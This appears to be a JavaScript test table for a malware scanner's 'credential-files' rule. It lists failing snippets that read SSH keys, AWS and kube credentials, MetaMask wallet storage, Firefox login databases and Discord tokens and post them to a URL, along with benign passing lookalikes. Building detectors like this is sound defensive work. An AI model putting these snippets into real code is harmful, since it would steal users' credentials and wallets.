import { ruleTable } from "../helpers.js";

ruleTable("credential-files", {
  fail: [
    // Credential paths are parsed next to a network client (or at install time); alone they weigh "medium" at most.
    { name: "ssh key via path.join", code: "const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); fetch(u, { method: 'POST', body: key });", atLeast: "medium" },
    { name: "aws credentials", code: "read(require('path').join(home, '.aws', 'credentials'));", installTime: true, atLeast: "medium" },
    { name: "MetaMask extension storage", code: "const p = home + '/Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'; require('https').request(o).end(p);", atLeast: "medium" },
    { name: "kube config", code: "fs.readFile(`${process.env.HOME}/.kube/config`, (e, d) => axios.post(u, d));", atLeast: "medium" },
    { name: "Firefox's key and login stores", code: "const dir = path.join(appData, 'Mozilla', 'Firefox', 'Profiles', profile); send(path.join(dir, 'key4.db'), path.join(dir, 'logins.json')); fetch(u);", atLeast: "medium" },
    { name: "Discord's token store", code: "const p = `${home}/AppData/Roaming/discord/Local Storage/leveldb`; require('fs').readdirSync(p);", atLeast: "medium" },
    { name: "a Discord token pattern searched in files", code: "for (const m of text.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g)) found.push(m); fetch(u);", atLeast: "medium" },
    { name: "Discord client code for injection", code: "const target = glob.sync(dir + '\\\\app-*\\\\modules\\\\discord_desktop_core-*\\\\discord_desktop_core\\\\index.js'); https.get(u);", atLeast: "medium" },
  ],
  pass: [
    { name: "dotenv reads .env", code: "const file = path.resolve(process.cwd(), '.env'); fs.readFileSync(file);" },
    { name: "npm tooling reads .npmrc", code: "const userConfig = path.join(os.homedir(), '.npmrc');" },
    { name: "a word in prose", code: "throw new Error('Could not find ssh key; see docs about .ssh folders');" },
    { name: "a browser executable, not its profile", code: "const brave = '/mnt/c/Program Files (x86)/BraveSoftware/Brave-Browser/Application/brave.exe'; require('net').connect(port);" },
    { name: "Discord's API and a GitHub org named discord", code: "fetch('https://discord.com/api/v10/users/@me'); const repo = 'https://github.com/discord/discord-api-docs';" },
    { name: "localStorage in a web app", code: "const token = window.localStorage.getItem('token'); fetch('/api', { headers: { authorization: token } });" },
  ],
});
